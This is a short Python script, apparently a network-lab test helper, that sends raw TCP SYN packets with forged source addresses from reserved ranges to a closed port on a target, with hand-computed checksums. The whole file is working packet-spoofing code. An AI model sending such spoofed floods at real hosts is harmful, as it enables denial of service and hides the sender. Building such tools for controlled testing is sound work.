"""SYNs to a closed port, each from another address, so that the host there resets a new peer each time.

    spoof.py ADDRESS PORT COUNT

Run in the attacker's namespace. Sources are 198.18.0.0/15 (RFC 2544) and, from 131,072 on, 240.0.0.0/4: nobody's.
"""

import socket
import struct
import sys

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
target = socket.inet_aton(address)
FIRST, FIRST_COUNT, SECOND = 0xC6120000, 1 << 17, 0xF0000000


def total(data):
    return sum(struct.unpack(f'!{len(data) // 2}H', data))


def folded(value):
    value = (value >> 16) + (value & 0xFFFF)
    return ~((value >> 16) + value) & 0xFFFF


tcp = struct.pack('!HHIIBBHHH', 40000, port, 1, 0, 5 << 4, 2, 65535, 0, 0)
pseudo = total(target + struct.pack('!HH', 6, len(tcp)) + tcp)
ip = struct.pack('!BBHHHBBH', 0x45, 0, 40, 0, 0, 64, 6, 0)
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
    for i in range(count):
        source = struct.pack('!I', FIRST + i if i < FIRST_COUNT else SECOND + i)
        checksum = struct.pack('!H', folded(pseudo + total(source)))
        sock.sendto(b''.join((ip, source, target, tcp[:16], checksum, tcp[18:])), (address, 0))
